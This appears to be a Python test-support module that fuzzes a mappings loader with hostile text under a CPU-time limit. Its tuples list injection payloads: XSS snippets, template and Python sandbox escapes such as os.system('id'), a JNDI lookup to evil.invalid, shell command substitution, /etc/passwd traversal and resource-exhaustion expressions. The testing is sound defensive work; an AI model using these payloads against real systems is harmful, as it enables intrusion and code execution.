"""What the tests of hostile input share: texts that something takes for more than text, files, and a limit of time."""

from __future__ import annotations

import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import settings
from hypothesis import strategies as st
from tests.unit.spec.conftest import SOUND

CPU_SECONDS = 5.0  # on a slow machine; each of these attacks takes minutes, or for ever, where nothing bounds it
TRIED = settings(max_examples=100, deadline=None, database=None, derandomize=True)
ACTING = ("\n", "\r", "\x00", "\x08", "\x1b[2J\x1b[31m", "\x9b31m", "\x85", "\u2028", "\u2029", "\u202e")
MARKED_UP = ("[red]x[/red]", "[link=https://evil.invalid]x[/link]", "[/]", "<script>alert(1)</script>",
             '"><img src=x onerror=alert(1)>', "{{7*7}}", "javascript:alert(1)", "`</code><b>x</b>`")  # fmt: skip
PROGRAMS = (
    "__import__('os').system('id')", "().__class__.__mro__[1].__subclasses__()", "{0.__class__.__init__.__globals__}",
    "%(password)s", "${jndi:ldap://evil.invalid/x}", "{{ conn.dataverse_default.password }}", "$(id)", "`id`",
    "9**9**9**9", "'a'*10**12", "lambda: 1", "1e999999999", "settings.__class__", "../../../../etc/passwd", "@import",
)  # fmt: skip
HOSTILE = (*ACTING, *MARKED_UP, *PROGRAMS, "' or 1 eq 1", "%27", "a/b", "\ud800", "", "9" * 60)
TEXTS = st.text(max_size=30) | st.builds(lambda *parts: "".join(parts), *[st.sampled_from(HOSTILE)] * 2)


@contextmanager
def in_bounded_time() -> Iterator[None]:
    """Make sure that what is done inside takes little time of the processor; how busy the machine is does not count."""
    begun = time.process_time()
    yield
    assert time.process_time() - begun < CPU_SECONDS


@pytest.fixture
def mappings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of mappings that the loader uses, with one sound mapping in it."""
    for name in ("standard", "custom", "connection_sets"):
        (tmp_path / name).mkdir()
    (tmp_path / "standard" / "parts.yaml").write_text(SOUND, encoding="utf-8")
    monkeypatch.setenv("FS_INTEGRATION_MAPPINGS", str(tmp_path))
    return tmp_path
